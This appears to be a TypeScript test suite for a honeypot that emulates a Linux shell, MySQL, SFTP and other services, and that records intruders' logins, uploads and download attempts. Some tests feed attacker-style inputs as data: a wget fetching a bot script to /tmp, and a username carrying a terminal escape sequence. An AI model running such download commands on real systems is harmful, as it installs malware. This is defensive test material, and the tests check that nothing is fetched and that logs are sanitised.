import assert from 'node:assert/strict';
import { EventEmitter } from 'node:events';
import { duplexPair, PassThrough } from 'node:stream';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { Account, Budget } from '../../src/honeypot/bounds.ts';
import { castOf, readCast } from '../../src/honeypot/cast.ts';
import { hasshOf } from '../../src/honeypot/decoys/hassh.ts';
import { decoys } from '../../src/honeypot/decoys/index.ts';
import { serveSftp } from '../../src/honeypot/decoys/sftp.ts';
import type { Happening } from '../../src/honeypot/event.ts';
import { BOUNDS, type HoneypotEvent, makePersona, toEcs, toLine } from '../../src/honeypot/index.ts';
import { Files } from '../../src/honeypot/shell/files.ts';
import { parse, Shell } from '../../src/honeypot/shell/shell.ts';
import { Tape } from '../../src/honeypot/tape.ts';
import { Visit, type VisitWitness } from '../../src/honeypot/visit.ts';

const SEED = '5a'.repeat(32);
const persona = makePersona(SEED, 1_790_000_000);
/** Each takes a third of a second, for its key of RSA. */
const other = makePersona('5b'.repeat(32), 1_790_000_000);

function witnessOf(protocol: string, report: (each: Happening) => void = () => {}): VisitWitness {
  const account = new Account(new Budget(1e9));
  return {
    protocol,
    visitor: '192.0.2.9',
    report,
    account,
    record() {},
    recordSecret() {},
    keep: () => 'hash',
  };
}

function shellFor(user = 'root'): { shell: Shell; reports: Happening[] } {
  const reports: Happening[] = [];
  const witness = witnessOf('ssh', (each) => reports.push(each));
  return { shell: new Shell(new Visit(new PassThrough(), persona, BOUNDS, witness), user), reports };
}

describe("the honeypot's processes", () => {
  const outputOf = (line: string, user = 'root') => shellFor(user).shell.run(line);

  test('ps shows in each style the columns of procps, and its own command', () => {
    const aux = outputOf('ps aux').trimEnd().split('\n');
    assert.match(aux[0]!, /^USER +PID %CPU %MEM +VSZ +RSS TTY +STAT START +TIME COMMAND$/);
    assert.match(aux[1]!, /^root +1 +0\.0 +\d\.\d 168140 12880 \? +Ss +\w{3}\d\d +\d+:\d\d \/sbin\/init$/);
    assert.match(aux.at(-1)!, /^root +\d+ +0\.0 .* pts\/0 +R\+ +\d\d:\d\d +0:00 ps aux$/);
    assert.ok(aux.some((line) => line.endsWith('nginx: worker process')));
    const full = outputOf('ps -ef', 'anna').trimEnd().split('\n');
    assert.match(full[0]!, /^UID +PID +PPID +C STIME TTY +TIME CMD$/);
    assert.match(full.at(-1)!, /^anna +\d+ +\d+ +0 \d\d:\d\d pts\/0 +00:00:00 ps -ef$/);
    const pids = full.slice(1).map((line) => Number(line.split(/ +/)[1]));
    assert.equal(new Set(pids).size, pids.length);
    const parents = full.slice(1).map((line) => Number(line.split(/ +/)[2]));
    assert.ok(parents.every((parent) => parent === 0 || pids.includes(parent)));
    assert.deepEqual(
      outputOf('ps')
        .trimEnd()
        .split('\n')
        .map((line) => line.split(/ +/).at(-1)),
      ['CMD', 'bash', 'ps'],
    );
  });

  test('ps shows the same host the same processes, and no two hosts the same', () => {
    const of = (host: typeof persona) => {
      const visit = new Visit(new PassThrough(), host, BOUNDS, witnessOf('ssh'));
      return new Shell(visit, 'root').run('ps -e');
    };
    assert.equal(of(persona), of({ ...persona }));
    assert.notEqual(of(persona), of(other));
  });

  test('top has its five lines and a table', () => {
    const lines = outputOf('top -bn1').split('\n');
    assert.match(lines[0]!, /^top - \d\d:\d\d:\d\d up \d+ days, {2}1 user, {2}load average: /);
    assert.match(lines[6]!, /^ +PID USER +PR +NI +VIRT +RES +SHR S +%CPU +%MEM +TIME\+ COMMAND$/);
    assert.match(lines[7]!, /^ +1 root +20 +0 .* systemd$/);
  });
});

describe('what a login to a database leaves', () => {
  const login = async (proof: string) => {
    const reports: Happening[] = [];
    const [client, server] = duplexPair();
    const visit = new Visit(
      server,
      persona,
      BOUNDS,
      witnessOf('mysql', (each) => reports.push(each)),
    );
    const served = decoys.find(({ name }) => name === 'mysql')!.serve(visit);
    const greeting: Buffer = await new Promise((resolve) => client.once('data', resolve));
    const body = Buffer.concat([Buffer.alloc(32), Buffer.from('root\0'), Buffer.from(proof, 'hex')]);
    client.write(Buffer.concat([Buffer.of(body.length, 0, 0, 1), body]));
    const answer: Buffer = await new Promise((resolve) => client.once('data', resolve));
    await served;
    const at = greeting.indexOf(0, 5) + 5;
    const salt = Buffer.concat([greeting.subarray(at, at + 8), greeting.subarray(at + 27, at + 39)]);
    return { login: reports[0]!, said: answer.toString('latin1'), salt: salt.toString('hex') };
  };

  test('MySQL: the hash of the password, with the salt it was made with', async () => {
    const native = await login(`14${'ab'.repeat(20)}`);
    assert.equal(native.login.user, 'root');
    assert.equal(native.login.password, undefined);
    assert.equal(native.login.hash, `$mysqlna$${native.salt}*${'ab'.repeat(20)}`);
    assert.match(native.said, /Access denied for user 'root'@'192\.0\.2\.9' \(using password: YES\)/);
    const newer = await login(`20${'cd'.repeat(32)}`);
    assert.equal(newer.login.hash, `$caching_sha2$${newer.salt}*${'cd'.repeat(32)}`);
  });

  test('MySQL: no password is none', async () => {
    for (const proof of ['00', '', '0100']) {
      const { login: event, said } = await login(proof);
      assert.deepEqual([event.password, event.hash], ['', undefined]);
      assert.match(said, /using password: NO/);
    }
  });
});

describe("the honeypot's shell", () => {
  test('lines are taken apart as sh does', () => {
    const shown = (line: string) =>
      parse(line).map(({ words, joint, into }) => [joint, words.join('|'), into?.path ?? '']);
    assert.deepEqual(shown(`cd /tmp && echo "a b" 'c;d' > x; ls 2>/dev/null | wc -l`), [
      [';', 'cd|/tmp', ''],
      ['&&', 'echo|a b|c;d', 'x'],
      [';', 'ls', ''],
      ['|', 'wc|-l', ''],
    ]);
  });

  test('answers fit together: what is written is there, what is not is not', () => {
    const { shell } = shellFor();
    assert.equal(shell.run('whoami; pwd'), 'root\n/root\n');
    assert.equal(shell.run('cd /tmp && echo one > a && echo two >> a && cat a'), 'one\ntwo\n');
    assert.match(shell.run('ls -l /tmp'), / 8 .* a\n$/);
    assert.equal(shell.run('rm a; cat a'), 'cat: a: No such file or directory\n');
    assert.equal(shell.run('cat /etc/hostname'), `${persona.hostname}\n`);
    assert.equal(shell.run('cat /etc/passwd | grep root | head -n 1'), 'root:x:0:0:root:/root:/bin/bash\n');
    assert.equal(shell.run('valueOf'), '-bash: valueOf: command not found\n');
    assert.equal(shell.run('nosuch || echo no'), '-bash: nosuch: command not found\nno\n');
    assert.equal(shell.prompt, `root@${persona.hostname}:/tmp# `);
  });

  test('nothing is fetched; what was wanted is reported', () => {
    const { shell, reports } = shellFor();
    assert.match(shell.run('wget -q http://192.0.2.1/bot.sh -O /tmp/b'), /timed out/);
    assert.deepEqual(reports.at(-1), { type: 'download', url: 'http://192.0.2.1/bot.sh' });
  });

  test('files left are kept once, with their bytes', () => {
    const { shell, reports } = shellFor();
    shell.run(String.raw`echo -ne "\x7fELF\x02" > /tmp/bin; echo aGVsbG8= | base64 -d > /tmp/t`);
    shell.keepFiles();
    shell.keepFiles();
    const kept = reports.filter(({ type }) => type === 'upload');
    assert.deepEqual(
      kept.map(({ path, bytes }) => [path, bytes]),
      [
        ['/tmp/bin', 5],
        ['/tmp/t', 5],
      ],
    );
  });

  test('a user who is not root has a home of their own', () => {
    assert.equal(
      shellFor('anna').shell.run('pwd; id -u'),
      '/home/anna\nuid=1000(anna) gid=1000(anna) groups=1000(anna),27(sudo)\n',
    );
  });

  test('who asks and never reads is sent away before the answers fill the memory', () => {
    const socket = new PassThrough();
    const witness = witnessOf('telnet');
    const visit = new Visit(socket, persona, BOUNDS, witness);
    // Nobody takes what comes out.
    socket.pause();
    for (let i = 0; i < 100 && !socket.destroyed; i++) visit.write('x'.repeat(200_000));
    assert.equal(socket.destroyed, true);
    assert.ok(socket.writableLength < 2 ** 21);
  });

  test('SFTP: a byte far behind the end, and reading again and again, take no more than their room', () => {
    const socket = new PassThrough();
    const witness = witnessOf('ssh');
    const visit = new Visit(socket, persona, BOUNDS, witness);
    let failures = 0;
    let given = 0;
    const sftp = Object.assign(new EventEmitter(), {
      handle() {},
      status: (_id: number, code: number) => (failures += code === 4 ? 1 : 0),
      data: (_id: number, bytes: Buffer) => (given += bytes.length),
    });
    serveSftp(visit, sftp as never, new Files(persona));
    const handle = (i: number) => Buffer.of(0, 0, 0, i);
    for (let i = 0; i < 3; i++) sftp.emit('OPEN', i, `/tmp/${i}`, 2);
    for (let i = 0; i < 3; i++) sftp.emit('WRITE', i, handle(i), 2_999_999, Buffer.of(1));
    assert.equal(failures, 2, 'there is room for the first alone');
    for (let i = 0; i < 100; i++) sftp.emit('READ', i, handle(0), 0, 2 ** 31);
    assert.ok(given <= 10_000_000);
    assert.equal(socket.destroyed, true);
  });

  test('the names that every object has are no commands', () => {
    for (const name of ['constructor', '__proto__', 'toString', 'valueOf', 'hasOwnProperty'])
      assert.match(shellFor().shell.run(name), /command not found/);
  });

  test('a line cannot make more of a file than there is room for', () => {
    const { shell } = shellFor();
    shell.run(`echo ${'x'.repeat(4000)} > /tmp/a`);
    for (let i = 0; i < 4; i++)
      shell.run('cat /tmp/a /tmp/a /tmp/a /tmp/a /tmp/a > /tmp/b; mv /tmp/b /tmp/a');
    assert.ok(shell.run(`cat /tmp/a ${'| base64 '.repeat(48)} | wc -c`).length < 20);
    assert.ok(shell.run(`cat ${'/tmp/a '.repeat(1000)} | wc -c`).length < 20);
  });

  test('no line makes it throw or print without end', () => {
    const words = fc.constantFrom(
      'ls',
      'cat',
      'cd',
      'echo',
      '>',
      '>>',
      '|',
      '&&',
      ';',
      '..',
      '/etc',
      '-la',
      '"',
      "'",
      '\\',
      'sudo',
      'busybox',
      'head',
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(words).map((each) => each.join(' ')),
        ),
        (line) => {
          assert.ok(shellFor().shell.run(line).length <= 300_000);
        },
      ),
    );
  });
});

describe('what a honeypot keeps', () => {
  test('the persona follows from its seed, but for the host key', () => {
    const { hostKey: _, ...again } = makePersona(SEED, 1_790_000_000);
    const { hostKey: __, ...first } = persona;
    assert.deepEqual(again, first);
    assert.notEqual(other.address, persona.address);
  });

  test('a cast holds any bytes, up to its bound, and comes back', () => {
    const header = {
      session: 's',
      protocol: 'telnet',
      source: '192.0.2.1',
      port: 23,
      time: 5000,
      meshTime: null,
    };
    fc.assert(
      fc.property(fc.array(fc.uint8Array({ maxLength: 50 })), (chunks) => {
        const tape = new Tape(100, 5000, new Account(new Budget(1e6)));
        for (const chunk of chunks) tape.add('i', chunk, 6500);
        const back = readCast(castOf(tape, header))!;
        assert.deepEqual(back.header, { ...header, encoding: 'latin1' });
        const all = Buffer.concat(chunks).subarray(0, 100).toString('latin1');
        assert.equal(back.events.map(({ text }) => text).join(''), all);
      }),
    );
    assert.equal(readCast('{"version":2}\n'), null);
  });

  test('a clock that is set back during a visit costs neither the visit nor the honeypot', () => {
    const tape = new Tape(100, 5000, new Account(new Budget(1e6)));
    tape.add('i', Buffer.from('ls'), 4000);
    assert.deepEqual(
      [...tape.entries()].map(({ atMs }) => atMs),
      [0],
    );
  });

  test('all visits share one memory, told of as it is taken, and give it back', () => {
    let timesFull = 0;
    const budget = new Budget(100_000, () => timesFull++);
    const accounts = Array.from({ length: 50 }, () => new Account(budget));
    const tapes = accounts.map((account) => new Tape(1e6, 0, account));
    for (let i = 0; i < 400; i++) for (const tape of tapes) tape.add('i', Uint8Array.of(0), 1);
    assert.ok(budget.bytes >= 50 * 400 * 10 && timesFull > 0);
    assert.equal(
      budget.bytes,
      tapes.reduce((sum, { heldBytes }) => sum + heldBytes, 0),
    );
    for (const account of accounts) account.close();
    assert.equal(budget.bytes, 0);
    accounts[0]!.hold(100);
    assert.equal(budget.bytes, 0, 'what is over holds nothing');
  });

  test("a visitor's files are counted, and the files of all are the same", () => {
    const account = new Account(new Budget(1e9));
    const files = new Files(persona, (bytes) => account.hold(bytes));
    files.write('/tmp/a', 'x'.repeat(1000));
    files.write('/tmp/a', 'x'.repeat(400));
    assert.equal(account.bytes, 400);
    assert.equal(files.remove('/etc/passwd'), true);
    assert.equal(files.read('/etc/passwd'), null);
    assert.equal(files.list('/etc').includes('passwd'), false);
    assert.match(new Files(persona).read('/etc/passwd')!, /^root:/);
  });

  test('events in ECS, and in one line that cannot command a terminal', () => {
    const event: HoneypotEvent = {
      ...{
        type: 'login',
        user: 'root\x1b[2J',
        password: 'x',
        isSuccess: false,
        time: 0,
        meshTime: { mesh: 'home', ms: -0.25, uncertaintyMs: 0.0101 },
        session: 's',
        protocol: 'ssh',
      },
      ...{ sourceAddress: '192.0.2.1', sourcePort: 4, address: '198.51.100.1', port: 22 },
    };
    const ecs = toEcs(event) as Record<string, unknown>;
    assert.equal(ecs['event.action'], 'login.failed');
    assert.equal(ecs['source.ip'], '192.0.2.1');
    assert.equal(JSON.parse(JSON.stringify(ecs))['url.original'], undefined);
    assert.deepEqual(
      ['name', 'time', 'uncertainty_ms'].map((field) => ecs[`eyrie.mesh.${field}`]),
      ['home', '1969-12-31T23:59:59.999750Z', 0.011],
    );
    const alone = JSON.parse(JSON.stringify(toEcs({ ...event, meshTime: null })));
    assert.equal('eyrie.mesh.time' in alone, false);
    assert.ok(!toLine(event).includes('\x1b'));
  });

  test('HASSH: of four lists of the offer, as published', () => {
    const lists = ['kex', 'key', 'aes', 'aes2', 'mac', 'mac2', 'none', 'none', '', ''];
    const body = Buffer.concat(
      lists.map((list) => Buffer.concat([Buffer.of(0, 0, 0, list.length), Buffer.from(list)])),
    );
    const packet = Buffer.concat([
      Buffer.of(0, 0, 0, body.length + 23, 4, 20),
      Buffer.alloc(16),
      body,
      Buffer.alloc(5),
    ]);
    const bytes = Buffer.concat([Buffer.from('SSH-2.0-x\r\n'), packet]);
    // md5("kex;aes;mac;none")
    assert.deepEqual(hasshOf(bytes), { hassh: '4cec88b23ea032e64eb84e4cd31fc7bc', greeting: 'SSH-2.0-x' });
    assert.equal(hasshOf(bytes.subarray(0, 40)), 'more');
  });

  test('first payloads are told apart', () => {
    const told = (first: string | Buffer) =>
      decoys.find((each) => each.recognises(Buffer.from(first as string, 'latin1')))?.name;
    assert.equal(told('GET / HTTP/1.1\r\n'), 'http');
    assert.equal(told('SSH-2.0-Go\r\n'), 'ssh');
    assert.equal(told('\x16\x03\x01\x02\x00\x01'), 'tls');
    assert.equal(told('\x03\x00\x00\x13\x0e\xe0'), 'rdp');
    assert.equal(told('\x00\x00\x00\x54\xffSMBr'), 'smb');
    assert.equal(told('\x10\x10\x00\x04MQTT\x04'), 'mqtt');
    assert.equal(told('*1\r\n$4\r\nPING\r\n'), 'redis');
    assert.equal(told('\x00\x00\x00\x08\x04\xd2\x16\x2f'), 'postgresql');
    assert.equal(told('\xff\xfd\x03'), 'telnet');
    assert.equal(told('\x12\x01\x00\x2f\x00\x00\x01\x00\x00\x00\x1a'), 'mssql');
    assert.equal(told('RFB 003.008\n'), 'vnc');
    assert.equal(told('EHLO me\r\n'), 'smtp');
    assert.equal(told('USER x\r\n'), 'ftp');
    assert.equal(told('\x00\x01\x00\x00\x00\x06\x01\x03\x00\x00\x00\x01'), 'modbus');
    fc.assert(
      fc.property(
        fc.uint8Array({ maxLength: 40 }),
        (bytes) => void told(Buffer.from(bytes).toString('latin1')),
      ),
    );
  });
});
